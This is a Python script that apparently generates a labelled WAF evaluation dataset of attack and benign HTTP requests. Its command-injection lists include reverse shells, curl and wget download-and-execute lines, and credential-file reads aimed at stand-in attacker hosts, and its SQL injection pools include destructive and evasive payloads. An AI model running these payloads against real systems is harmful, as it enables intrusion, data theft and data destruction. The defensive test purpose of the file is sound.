#!/usr/bin/env python3
# ruff: noqa: UP031, E501, RUF001, S608, PLR0911, PLR0912, PLR0913, PLR0915, C401, E741, SIM102, RUF005, E731, B007
# (kept as the blind helper wrote it: payloads are printf templates, SQL and look-alike characters on purpose)
"""
Write tests/data/waf_unseen_third.jsonl: a third unseen set for the WAF (issue 17), source tag "v12".

    python tests/data/make_waf_unseen_third.py

Written on 2026-12-04 by a helper who saw neither the WAF's rules, its tests, its docs nor any
corpus, and scored once before any change (docs/waf.md, "A third unseen set").

Written without looking at the WAF's rules or other test data.  Attack rows
are built from attack *techniques* (OWASP-testing-guide style), benign rows
imitate ordinary API / browser traffic, including deliberately tricky
false-positive material (code snippets, SQL words in searches, HTML from CMS
editors, JSON-Schema "$ref" keys, Strapi-style "filters[x][$eq]" keys, ...).

Deterministic: everything is drawn from random.Random(303030); no set
iteration, no clock, no environment input.  Standard library only.

Row schema (exact keys):
  id, label, category, method, path, query, headers, body, placement,
  payload, hard, source

Conventions
  * "payload" is the raw, unencoded value as the application receives it
    after all intended decoding layers.  For wire-level evasions
    (double URL encoding, encoding every byte, JSON \\uXXXX escapes) the
    payload field still holds the decoded attack string; the wire form is in
    path / query / body / headers.  A few evasions are *inherently* encoded
    (overlong UTF-8 "%c0%af", IIS "%u2216", "%252f" …); those payloads carry
    the percent sequences literally and are placed on the wire verbatim.
  * header placement: values that contain control or non-ASCII characters are
    percent-encoded (a raw CR/LF cannot travel in a header value).
  * For JSON payloads that are JSON objects (NoSQL operators), "payload" is
    the JSON text of the embedded object.
  * For benign rows "hard" marks deliberately false-positive-prone content.

Usage:  python3 make_waf_unseen_third.py -> writes waf_unseen_third.jsonl next to this file
"""

import base64
import collections
import json
import os
import random
import re
import string
import sys
import unicodedata
import urllib.parse
import uuid

R = random.Random(303030)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_third.jsonl")
SRC = "v12"

PLACEMENTS = ["query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart"]
URLISH = ("query", "query_key", "path", "form", "cookie")
ATTACK_CATS = [
    "sqli",
    "xss",
    "cmdi",
    "path_traversal",
    "ssrf",
    "ssti",
    "code_injection",
    "php_injection",
    "rfi",
    "crlf",
    "ldapi",
    "nosqli",
    "xxe",
    "log4shell",
    "mail_injection",
    "prototype_pollution",
]
N_PER_CAT = 42  # >= 35 required
N_HARD = 14  # ~1/3

PH = "@@PAYLOAD_7f3a@@"  # ASCII placeholder used while building bodies

# --------------------------------------------------------------------------
# small random helpers
# --------------------------------------------------------------------------


def ch(seq):
    return R.choice(seq)


def rstr(n, alphabet=string.ascii_letters + string.digits):
    return "".join(R.choice(alphabet) for _ in range(n))


def low(n):
    return rstr(n, string.ascii_lowercase + string.digits)


def digits(n):
    return rstr(n, string.digits)


def hexs(n):
    return rstr(n, "0123456789abcdef")


def uid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def b64(b, pad=True, url=False):
    if isinstance(b, str):
        b = b.encode("utf-8")
    s = (base64.urlsafe_b64encode(b) if url else base64.b64encode(b)).decode()
    return s if pad else s.rstrip("=")


def iso_date():
    return "%04d-%02d-%02d" % (ch([2023, 2024, 2025]), R.randint(1, 12), R.randint(1, 28))


def iso_ts():
    return "%sT%02d:%02d:%02d%s" % (
        iso_date(),
        R.randint(0, 23),
        R.randint(0, 59),
        R.randint(0, 59),
        ch(["Z", ".000Z", "+02:00", "-05:00", ".%03dZ" % R.randint(0, 999)]),
    )


def epoch():
    return R.randint(1690000000, 1750000000)


FIRST = [
    "Liam",
    "Olivia",
    "Noah",
    "Emma",
    "Sean",
    "Aoife",
    "Siobhan",
    "Mateo",
    "Sofía",
    "Lukas",
    "Anna",
    "Yuki",
    "Hiroshi",
    "Priya",
    "Arjun",
    "Fatima",
    "Omar",
    "Chloé",
    "Zoë",
    "Björn",
    "Inès",
    "Mei",
    "Wei",
    "Olga",
    "Dmitri",
    "Kwame",
    "Amara",
    "João",
    "Łukasz",
    "Grace",
    "Ahmed",
    "Lucía",
    "Tomás",
    "Hannah",
    "Ravi",
    "Ewa",
]
LAST = [
    "O'Brien",
    "O'Connor",
    "Smith",
    "García",
    "Müller",
    "Nakamura",
    "Patel",
    "Dubois",
    "Kowalski",
    "Andersson",
    "D'Angelo",
    "MacDonald",
    "van der Berg",
    "Núñez",
    "Ivanova",
    "Okafor",
    "Al-Sayed",
    "Le",
    "Silva",
    "Öztürk",
    "Johnson",
    "Rossi",
    "Kim",
    "Chen",
    "Fitzgerald",
    "Dell'Acqua",
    "Schröder",
    "Brown",
]
MAIL_DOMAINS = ["example.com", "example.org", "mail.example.net", "company.example", "example.co.uk", "uni.example.edu"]
SITES = [
    "www.example.com",
    "shop.example.com",
    "blog.example.org",
    "docs.example.net",
    "news.example.co.uk",
    "help.example.io",
    "store.example.de",
]
PRODUCTS = [
    "Merino Wool Sweater",
    "Trail Running Shoes",
    "Ceramic Pour-Over Set",
    "Noise-Cancelling Headphones",
    "Oak Dining Chair",
    "Stainless Water Bottle 750ml",
    "USB-C Hub 7-in-1",
    "Linen Duvet Cover (King)",
    "Kids' Rain Jacket",
    'Cast-Iron Skillet 12"',
    "Bamboo Cutting Board",
    "4K Action Camera",
    "Yoga Mat – 6mm",
    "Espresso Beans 1kg",
    "Standing Desk Frame",
    "LED Desk Lamp",
    "Women's Hiking Boots",
    "Men's Slim-Fit Chinos",
    "Wireless Charger Pad",
    "Organic Green Tea (50 bags)",
]
CITIES = [
    "Dublin",
    "Berlin",
    "Lyon",
    "São Paulo",
    "Kraków",
    "Osaka",
    "Toronto",
    "Austin",
    "Melbourne",
    "Nairobi",
    "Zürich",
    "Bengaluru",
    "Seville",
    "Göteborg",
]
STREETS = [
    "12 O'Connell Street",
    "Rue de l'Église 5",
    "Hauptstraße 21b",
    "221B Baker St",
    "Calle Mayor, 14, 3º Izq.",
    "1600 Amphitheatre Pkwy",
    "Ul. Floriańska 3/7",
    "4-2-8 Shibakoen, Minato-ku",
    "Av. Paulista, 1578 - Bela Vista",
    "PO Box 123",
    "Flat 4, 18 St. Mary's Road",
    "Apt #5, 77 Queen St W",
]


def ascii_fold(s):
    s = unicodedata.normalize("NFKD", s)
    return "".join(c for c in s if ord(c) < 128 and (c.isalnum() or c in ".-"))


def full_name():
    return "%s %s" % (ch(FIRST), ch(LAST))


def email():
    f, l = ascii_fold(ch(FIRST)).lower(), ascii_fold(ch(LAST)).lower().replace(" ", "")
    form = R.randrange(4)
    local = [f + "." + l, f[0] + l, f + "+" + ch(["news", "shop", "work", "2024"]), f + "_" + l + digits(2)][form]
    return "%s@%s" % (local, ch(MAIL_DOMAINS))


def phone():
    return ch(
        [
            "+1 (555) 01%s-%s" % (digits(1), digits(4)),
            "+44 20 7946 0%s" % digits(3),
            "+49 30 901820%s" % digits(2),
            "+33 1 23 45 67 %s" % digits(2),
            "+81 3-1234-%s" % digits(4),
            "+55 11 91234-%s" % digits(4),
            "(555) 010-%s" % digits(4),
            "+353 1 555 %s" % digits(4),
        ]
    )


def price():
    return ch(
        [
            "%d.%02d" % (R.randint(1, 999), R.randint(0, 99)),
            "$%d.%02d" % (R.randint(1, 999), R.randint(0, 99)),
            "€%d,%02d" % (R.randint(1, 999), R.randint(0, 99)),
            "£%d" % R.randint(1, 500),
            "¥%d" % (R.randint(1, 90) * 100),
        ]
    )


def sku():
    return "%s-%s-%s" % (rstr(3, string.ascii_uppercase), digits(4), ch(["BLK", "WHT", "S", "M", "L", "XL", "RED"]))


def atk_host():
    r = R.random()
    base = ch(
        [
            "attacker.example",
            "evil.test",
            "oast.example.net",
            "collab.example.org",
            "exfil.example.com",
            "c2.badhost.test",
            "pwn.example",
        ]
    )
    if r < 0.45:
        return low(R.randint(6, 12)) + "." + base
    if r < 0.65:
        return ch(["198.51.100.", "203.0.113.", "192.0.2."]) + str(R.randint(2, 250))
    return base


def atk_ip():
    return ch(["198.51.100.", "203.0.113.", "192.0.2."]) + str(R.randint(2, 250))


# --------------------------------------------------------------------------
# realistic headers
# --------------------------------------------------------------------------
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.113 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.67",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.111 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "axios/1.6.8",
    "Go-http-client/2.0",
    "curl/8.5.0",
    "PostmanRuntime/7.39.0",
    "Dart/3.3 (dart:io)",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "ShopApp/5.12.0 (iPhone; iOS 17.4.1; Scale/3.00)",
    "ShopApp/5.11.2 (Android 14; Pixel 7; okhttp)",
    "Alamofire/5.9.1",
    "aws-sdk-js/3.583.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.12.2",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
]
ACCEPTS = [
    "application/json",
    "application/json, text/plain, */*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "*/*",
    "application/vnd.api+json",
    "application/graphql-response+json, application/json;q=0.9",
]
LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.8",
    "fr-FR,fr;q=0.9",
    "es-ES,es;q=0.9,en;q=0.6",
    "ja,en-US;q=0.8",
    "pt-BR,pt;q=0.9,en-US;q=0.7",
    "pl-PL,pl;q=0.9",
    "en-GB,en;q=0.8",
]
HOSTS = [
    "api.shop.example.com",
    "app.example.com",
    "www.example.org",
    "portal.example.net",
    "cms.example.io",
    "api.example.de",
]


def base_headers():
    h = {"User-Agent": ch(UAS), "Accept": ch(ACCEPTS)}
    if R.random() < 0.5:
        h["Host"] = ch(HOSTS)
    if R.random() < 0.5:
        h["Accept-Language"] = ch(LANGS)
    if R.random() < 0.35:
        h["Accept-Encoding"] = ch(["gzip, deflate, br", "gzip", "br, gzip"])
    if R.random() < 0.15:
        h["X-Request-Id"] = uid()
    return h


# --------------------------------------------------------------------------
# encoders
# --------------------------------------------------------------------------
Q_BROWSER_SAFE = "/:@!$'()*,~[]"
Q_COMPONENT_SAFE = "!'()*~"
COOKIE_SAFE = "!#$&'()*-./:<=>?@[]^_`{|}~"
PATH_SAFE = "!$'()*,;=:@"


def full_pct(s):
    return "".join(("%%%02X" if R.random() < 0.6 else "%%%02x") % b for b in s.encode("utf-8"))


def double_pct(s):
    return urllib.parse.quote(urllib.parse.quote(s, safe=""), safe="")


def enc_q(s, style, mode="std"):
    if mode == "double":
        return double_pct(s)
    if mode == "full":
        return full_pct(s)
    if mode == "raw":
        return urllib.parse.quote(s, safe="%" + Q_BROWSER_SAFE + "=?")
    if style == "browser":
        return urllib.parse.quote(s, safe=Q_BROWSER_SAFE)
    if style == "component":
        return urllib.parse.quote(s, safe=Q_COMPONENT_SAFE)
    return urllib.parse.quote_plus(s, safe="")


def enc_path(s, mode="std", keep_slash=False):
    if mode == "double":
        return double_pct(s)
    if mode == "full":
        return full_pct(s)
    if mode == "raw":
        return urllib.parse.quote(s, safe="%/" + PATH_SAFE)
    return urllib.parse.quote(s, safe=PATH_SAFE + ("/" if keep_slash else ""))


def enc_cookie(s, mode="std"):
    if mode == "double":
        return double_pct(s)
    if mode == "full":
        return full_pct(s)
    if mode == "raw":
        return urllib.parse.quote(s, safe=COOKIE_SAFE + "%")
    return urllib.parse.quote(s, safe=COOKIE_SAFE)


PRINTABLE = "".join(chr(i) for i in range(0x20, 0x7F))


def hdr_value(s):
    if all(0x20 <= ord(c) < 0x7F for c in s):
        return s
    return urllib.parse.quote(s, safe=PRINTABLE.replace("%", ""))


def json_str_esc(s):
    """JSON string literal with many characters written as \\uXXXX escapes."""
    out = ['"']
    for c in s:
        o = ord(c)
        if c in "<>'\"$_/\\(){}:;=.&|`%!*#@?[]" or o < 0x20 or (c.isalpha() and R.random() < 0.3):
            if o > 0xFFFF:
                o -= 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (o >> 10), 0xDC00 + (o & 0x3FF)))
            else:
                out.append(("\\u%04x" if R.random() < 0.5 else "\\u%04X") % o)
        else:
            out.append(c)
    out.append('"')
    return "".join(out)


def mp_escape(s):
    return s.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


def boundary():
    k = R.randrange(5)
    if k == 0:
        return "----WebKitFormBoundary" + rstr(16)
    if k == 1:
        return "-" * 27 + digits(29)
    if k == 2:
        return hexs(32)
    if k == 3:
        return "----formdata-undici-0" + digits(11)
    return "-" * 24 + hexs(16)


def multipart_body(parts, bnd):
    out = []
    for name, value, filename, ctype in parts:
        cd = 'form-data; name="%s"' % mp_escape(name)
        if filename is not None:
            cd += '; filename="%s"' % mp_escape(filename)
        seg = "--%s\r\nContent-Disposition: %s\r\n" % (bnd, cd)
        if ctype:
            seg += "Content-Type: %s\r\n" % ctype
        seg += "\r\n" + value + "\r\n"
        out.append(seg)
    out.append("--%s--\r\n" % bnd)
    return "".join(out)


# --------------------------------------------------------------------------
# shared request scaffolding (used by attacks *and* benign rows so that the
# surrounding structure carries no label signal)
# --------------------------------------------------------------------------


def fill(path):
    while "{id}" in path:
        path = path.replace("{id}", ch([str(R.randint(1, 99999)), uid(), low(10), str(R.randint(100, 999))]), 1)
    return path


FILLER_Q = [
    ("page", lambda: str(R.randint(1, 12))),
    ("limit", lambda: ch(["10", "20", "25", "50", "100"])),
    ("lang", lambda: ch(["en", "de", "fr", "es", "ja", "pt-BR"])),
    ("sort", lambda: ch(["created_at", "-created_at", "price", "name", "relevance"])),
    ("utm_source", lambda: ch(["newsletter", "google", "facebook", "partner"])),
    ("v", lambda: str(R.randint(1, 5))),
    ("_", lambda: str(epoch() * 1000 + R.randint(0, 999))),
    ("currency", lambda: ch(["USD", "EUR", "GBP", "JPY"])),
    ("ref", lambda: ch(["home", "nav", "footer", "email"])),
    ("include", lambda: ch(["items", "customer", "items,customer"])),
    ("per_page", lambda: ch(["12", "24", "48"])),
    ("region", lambda: ch(["eu-west", "us-east", "apac"])),
]


def filler_params(n):
    return [(k, f()) for k, f in R.sample(FILLER_Q, n)]


FILLER_FORM = [
    ("csrf_token", lambda: rstr(32)),
    ("name", full_name),
    ("email", email),
    ("submit", lambda: ch(["Send", "Save", "Submit", "Continue"])),
    ("remember", lambda: "on"),
    ("source", lambda: ch(["web", "footer", "modal"])),
    ("redirect", lambda: ch(["/account", "/cart", "/"])),
    ("locale", lambda: ch(["en_US", "de_DE", "fr_FR"])),
    ("_method", lambda: ch(["PUT", "PATCH"])),
    ("authenticity_token", lambda: b64(rbytes(32))),
]


def filler_form(n):
    return [(k, f()) for k, f in R.sample(FILLER_FORM, n)]


def json_wrap(field, value):
    """Wrap value under key `field` inside one of several realistic envelopes.
    The field is always set last so that it can never be shadowed by a
    template key of the same name."""
    t = R.randrange(9)

    def put(d):
        d.pop(field, None)
        d[field] = value
        return d

    if t == 0:
        return put({})
    if t == 1:
        d = put({})
        d.update({k: v for k, v in {"page": R.randint(1, 9), "per_page": ch([10, 20, 50])}.items() if k != field})
        return d
    if t == 2:
        return {
            "data": {
                "type": ch(["orders", "profiles", "tickets", "items"]),
                "id": uid(),
                "attributes": put({"updated_at": iso_ts()}),
            }
        }
    if t == 3:
        return {
            "filters": put({"status": ch(["open", "shipped", "any"])}),
            "sort": ch(["-created_at", "price"]),
            "limit": 25,
        }
    if t == 4:
        return {
            "request_id": uid(),
            "payload": put({}),
            "client": {
                "app_version": "%d.%d.%d" % (R.randint(1, 9), R.randint(0, 30), R.randint(0, 9)),
                "platform": ch(["ios", "android", "web"]),
            },
        }
    if t == 5:
        return {
            "user": put(
                {
                    "id": R.randint(1000, 99999),
                    "display_name": full_name(),
                    "locale": ch(["en-US", "de-DE", "fr-FR", "ja-JP"]),
                }
            )
        }
    if t == 6:
        return put({"items": [{"sku": sku(), "qty": R.randint(1, 4)}], "currency": ch(["USD", "EUR"])})
    if t == 7:
        return {
            "event": ch(["page_view", "click", "form_submit"]),
            "ts": epoch(),
            "properties": put({"path": ch(["/checkout", "/", "/account"])}),
        }
    return put(
        {
            "id": R.randint(1, 99999),
            "notify": ch([True, False]),
            "tags": R.sample(["vip", "new", "eu", "b2b", "gift"], 2),
        }
    )


def json_key_wrap(key, val):
    t = R.randrange(6)

    def put(d):
        d.pop(key, None)
        d[key] = val
        return d

    if t == 0:
        return put({})
    if t == 1:
        return {"metadata": put({"source": ch(["web", "ios", "import"])})}
    if t == 2:
        return {"preferences": put({"theme": ch(["dark", "light"])})}
    if t == 3:
        return {"user_id": R.randint(100, 99999), "attributes": put({})}
    if t == 4:
        return {"filters": put({}), "limit": ch([10, 20, 50])}
    return {"labels": put({"team": ch(["growth", "core", "ops"])}), "updated_at": iso_ts()}


def dumps(doc, ensure_ascii):
    compact = R.random() < 0.5
    return json.dumps(doc, ensure_ascii=ensure_ascii, separators=(",", ":") if compact else None)


def build(placement, payload, mode, ctx):
    """Return (method, path, query, headers, body) for one request."""
    h = base_headers()
    method = "GET"
    path = fill(ctx.get("endpoint", "/api/v1/items"))
    query = ""
    body = None
    if R.random() < 0.25 and placement not in ("query", "query_key", "path"):
        query = "&".join("%s=%s" % (k, urllib.parse.quote(v, safe="")) for k, v in filler_params(R.randint(1, 2)))

    if placement in ("query", "query_key"):
        style = ctx.get("qstyle") or ch(["browser", "component", "plus"])
        pairs = [
            (urllib.parse.quote(k, safe="[]"), enc_q(v, style))
            for k, v in filler_params(R.randint(0, 3))
            if k != ctx.get("param") and k not in [e[0] for e in ctx.get("extra", [])]
        ]
        for k, v in ctx.get("extra", []):
            pairs.append((enc_q(k, style), enc_q(v, style)))
        if placement == "query":
            mine = (enc_q(ctx["param"], style), enc_q(payload, style, mode))
        else:
            mine = (enc_q(payload, style, mode), enc_q(ctx.get("val", ch(["1", "true", "x", "", "on"])), style))
        pairs.insert(R.randint(0, len(pairs)), mine)
        query = "&".join("%s=%s" % kv for kv in pairs)
        method = ctx.get("method", "GET")
    elif placement == "path":
        seg = enc_path(payload, mode, keep_slash=ctx.get("keep_slash", False))
        path = fill(ctx.get("pathslot", "/api/v1/items/{p}")).replace("{p}", seg)
        if R.random() < 0.3:
            query = "&".join("%s=%s" % (k, urllib.parse.quote(v, safe="")) for k, v in filler_params(R.randint(1, 2)))
        method = ctx.get("method", ch(["GET"] * 7 + ["DELETE", "HEAD"]))
    elif placement in ("json", "json_key"):
        method = ctx.get("method", ch(["POST"] * 6 + ["PUT", "PATCH"]))
        ea = R.random() < 0.3
        if ctx.get("doc_full") is not None:
            # payload already embedded inside a longer string of a complete document
            body = dumps(ctx["doc_full"], ea)
        elif ctx.get("obj") is not None:
            # payload is a JSON object embedded structurally
            doc = ctx["doc"](ctx["obj"]) if ctx.get("doc") else json_wrap(ctx["param"], ctx["obj"])
            body = dumps(doc, ea)
            if mode == "jsonesc":
                body = body.replace("$", "\\u0024").replace("_", "\\u005f")
        else:
            if placement == "json":
                doc = ctx["doc"](PH) if ctx.get("doc") else json_wrap(ctx["param"], PH)
            else:
                val = ctx.get("val", ch([True, 1, "asc", "1", {"enabled": True}, "value"]))
                doc = ctx["doc"](PH) if ctx.get("doc") else json_key_wrap(PH, val)
            body = dumps(doc, ea)
            lit = json_str_esc(payload) if mode == "jsonesc" else json.dumps(payload, ensure_ascii=ea)
            assert body.count('"%s"' % PH) == 1, body
            body = body.replace('"%s"' % PH, lit)
        h["Content-Type"] = ch(
            ["application/json", "application/json; charset=utf-8", "application/json;charset=UTF-8"]
        )
    elif placement == "form":
        method = ctx.get("method", "POST")
        pairs = (
            []
            if ctx.get("no_filler")
            else [
                (k, urllib.parse.quote_plus(v, safe=""))
                for k, v in filler_form(R.randint(1, 3))
                if k != ctx.get("param") and k not in [e[0] for e in ctx.get("extra", [])]
            ]
        )
        for k, v in ctx.get("extra", []):
            pairs.append((urllib.parse.quote_plus(k), urllib.parse.quote_plus(v)))
        if ctx.get("as_key"):
            mine = (enc_q(payload, "plus", mode), urllib.parse.quote_plus(ctx.get("val", "1")))
        else:
            mine = (urllib.parse.quote_plus(ctx["param"], safe="[]"), enc_q(payload, "plus", mode))
        pairs.insert(R.randint(0, len(pairs)), mine)
        body = "&".join("%s=%s" % kv for kv in pairs)
        h["Content-Type"] = ch(
            ["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"]
        )
    elif placement == "header":
        name = ctx.get("header", "X-Custom-Data")
        val = ctx.get("hdr_prefix", "") + payload
        if name == "Referer" and not re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", payload):
            val = "https://%s/%s?q=%s" % (
                ch(SITES),
                ch(["search", "products", "account/orders"]),
                urllib.parse.quote(payload, safe=""),
            )
        h[name] = hdr_value(val)
        if ctx.get("header_body") or R.random() < 0.2:
            method = "POST"
            body = (
                json.dumps({"ping": True, "ts": epoch()}) if R.random() < 0.5 else json.dumps({"id": R.randint(1, 999)})
            )
            h["Content-Type"] = "application/json"
        method = ctx.get("method", method)
    elif placement == "cookie":
        ck = []
        if R.random() < 0.8:
            ck.append(
                (
                    ch(["session", "sid", "PHPSESSID", "JSESSIONID", "connect.sid", "_session_id"]),
                    ch([hexs(32), rstr(26), "s%3A" + rstr(32) + "." + b64(rbytes(32), pad=False)]),
                )
            )
        if R.random() < 0.5:
            ck.append(("_ga", "GA1.2.%s.%d" % (digits(9), epoch())))
        if R.random() < 0.3:
            ck.append(("theme", ch(["dark", "light"])))
        if ctx.get("raw_cookie_value"):
            mine = (ctx.get("cookie", "data"), ctx["raw_cookie_value"])
        else:
            mine = (ctx.get("cookie", "data"), enc_cookie(payload, mode))
        ck.insert(R.randint(0, len(ck)), mine)
        h["Cookie"] = "; ".join("%s=%s" % kv for kv in ck)
        method = ctx.get("method", ch(["GET"] * 5 + ["POST"]))
        if method == "POST":
            body = urllib.parse.urlencode(filler_form(2))
            h["Content-Type"] = "application/x-www-form-urlencoded"
    elif placement == "multipart":
        method = ctx.get("method", "POST")
        bnd = boundary()
        if ctx.get("mp_parts"):
            parts = [
                (
                    n.replace(PH, payload),
                    (v.replace(PH, payload) if isinstance(v, str) else v),
                    (f.replace(PH, payload) if isinstance(f, str) else f),
                    c,
                )
                for n, v, f, c in ctx["mp_parts"]
            ]
        else:
            sub = ctx.get("mp", "field")
            parts = []
            if R.random() < 0.6:
                parts.append(("csrf_token", rstr(40), None, None))
            if R.random() < 0.5:
                parts.append(
                    (
                        ch(["title", "description", "folder"]),
                        ch(["Q3 report", "holiday pics", "invoices", "misc", "Avatar"]),
                        None,
                        None,
                    )
                )
            if sub == "field":
                mine = (ctx["param"], payload, None, None)
                parts.insert(R.randint(0, len(parts)), mine)
            elif sub == "filename":
                parts.append(
                    (
                        ch(["file", "upload", "attachment", "avatar"]),
                        ctx.get("mp_content", "hello world\n"),
                        payload,
                        ctx.get("mp_ctype", ch(["text/plain", "application/octet-stream"])),
                    )
                )
            else:  # content
                parts.append(
                    (
                        ch(["file", "upload", "document", "import"]),
                        payload,
                        ctx.get("mp_filename", "data.txt"),
                        ctx.get("mp_ctype", "text/plain"),
                    )
                )
        body = multipart_body(parts, bnd)
        h["Content-Type"] = "multipart/form-data; boundary=" + bnd
    else:
        raise ValueError(placement)
    if body is not None and "Content-Type" not in h:
        h["Content-Type"] = "application/json"
    return method, path, query, h, body


# ==========================================================================
# ATTACKS
# ==========================================================================
# Each generator: gen(placement, evasive) -> spec dict
#   p     : payload string (required)
#   mode  : "std" (default) or "raw" (payload already contains intended %-seqs)
#   ctx   : overrides for the request context (param, val, obj, doc, mp, ...)


def S(p, mode="std", **ctx):
    return {"p": p, "mode": mode, "ctx": ctx}


CMDS = [
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "sleep 10",
    "ping -c 3 {ip}",
    "nslookup {tok}.oast.example.net",
    "curl -s http://{h}/s.sh | sh",
    "wget -q -O /tmp/.x http://{h}/x && chmod +x /tmp/.x && /tmp/.x",
    "ls -la /var/www",
    "cat /etc/shadow",
    "nc {ip} 4444 -e /bin/sh",
    "bash -c 'bash -i >& /dev/tcp/{ip}/9001 0>&1'",
    "env",
    "ps aux",
    "echo owned > /var/www/html/o.txt",
    "cat ~/.aws/credentials",
    "python3 -c 'import socket,os;s=socket.socket();s.connect((\"{ip}\",53))'",
    "hostname; id",
]
WCMDS = [
    "whoami",
    "type C:\\Windows\\win.ini",
    "dir C:\\Users",
    "net user",
    "ipconfig /all",
    "ping -n 5 127.0.0.1",
    "powershell -c Get-Process",
    "certutil -urlcache -f http://{h}/a.exe %TEMP%\\a.exe",
]


def cmd(windows=False):
    c = ch(WCMDS if windows else CMDS)
    return c.replace("{ip}", atk_ip()).replace("{h}", atk_host()).replace("{tok}", low(10))


def g_sqli(pl, ev):
    n = ch([str(R.randint(1, 9999)), "admin", "shoes", "42", "jdoe", "books", "1"])
    tbl = ch(["users", "accounts", "customers", "admin_users", "members", "credentials"])
    cols = ch(["username,password", "email,password_hash", "login,pass", "user,token"])
    c1 = cols.split(",")[0]
    if not ev:
        pool = [
            f"{n}' OR '1'='1",
            f"{n}' OR 1=1-- -",
            f"{n} OR 1=1",
            f"' UNION SELECT {cols} FROM {tbl}-- ",
            f"{n}' UNION ALL SELECT NULL,NULL,version()-- -",
            f"{n}; DROP TABLE {tbl}--",
            f"{n}' AND SLEEP({R.randint(3, 9)})-- ",
            f"{n}'; WAITFOR DELAY '0:0:{R.randint(3, 9)}'--",
            f"{n} AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
            "' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- ",
            f"{n}' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- ",
            "admin'-- ",
            f"{n}') OR ('a'='a",
            f"{n}' ORDER BY {R.randint(5, 15)}-- ",
            f"{n}'||(SELECT pg_sleep(5))||'",
            f"{n}' AND substr((SELECT password FROM {tbl} LIMIT 1),1,1)='a",
            f"{n} AND updatexml(1,concat(0x3a,database()),1)",
            "'; EXEC master..xp_cmdshell 'whoami'--",
            f"{n}' UNION SELECT table_name,NULL FROM information_schema.tables-- ",
            f"(CASE WHEN (SELECT COUNT(*) FROM {tbl})>0 THEN price ELSE name END)",
            f"{n} AND ascii(substring(current_user,1,1))>64",
            f"{n}' AND 1=(SELECT COUNT(*) FROM {tbl} WHERE {c1}='admin' AND password LIKE 'a%')-- ",
            f"{n}'; INSERT INTO {tbl}({c1},role) VALUES('eve','admin')-- ",
            f"{n}' AND 1=dbms_pipe.receive_message('x',5)-- ",
            f"-{n} UNION SELECT 1,load_file('/etc/passwd'),3-- ",
            f"{n}'; SELECT * FROM {tbl} INTO OUTFILE '/var/www/html/x.txt'-- ",
            f"{n}' AND 1=CAST((SELECT {c1} FROM {tbl} LIMIT 1) AS int)-- ",
            f"{n}' RLIKE (SELECT (CASE WHEN (1=1) THEN 0x61 ELSE 0x28 END))-- ",
        ]
        return S(ch(pool))
    waitfor_hex = b"WAITFOR DELAY '0:0:5'".hex()
    pool = [
        S(f"{n}'/**/UNION/**/SELECT/**/{cols}/**/FROM/**/{tbl}-- -"),
        S(f"{n}' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,group_concat({c1})-- -"),
        S("' uNiOn aLl SeLeCt NuLl,@@VeRsIoN-- -"),
        S(f"{n}'\tOR\t1=1--\t"),
        S(f"{n}'\nOR\n'x'='x"),
        S(f"{n}'%0aUNION%0aSELECT%0a1,{c1}%0aFROM%0a{tbl}-- ", "raw"),
        S("' OR 'ad'||'min'='admin'-- "),
        S("' OR CONCAT('a','dm','in')=CONCAT('ad','min')-- "),
        S(f"' UNION SELECT 0x{b'admin'.hex()},0x{b'secret'.hex()}-- "),
        S("' UNION SELECT CHAR(97,100,109,105,110),2-- "),
        S("1'or(1)=(1)#"),
        S("'||(select(sleep(5)))||'"),
        S(f"{n}'/**/AND/**/(SeLeCt/**/1/**/FrOm/**/(SeLeCt(SlEeP(5)))a)-- "),
        S("-1.0UNION SELECT 1,user(),3-- "),
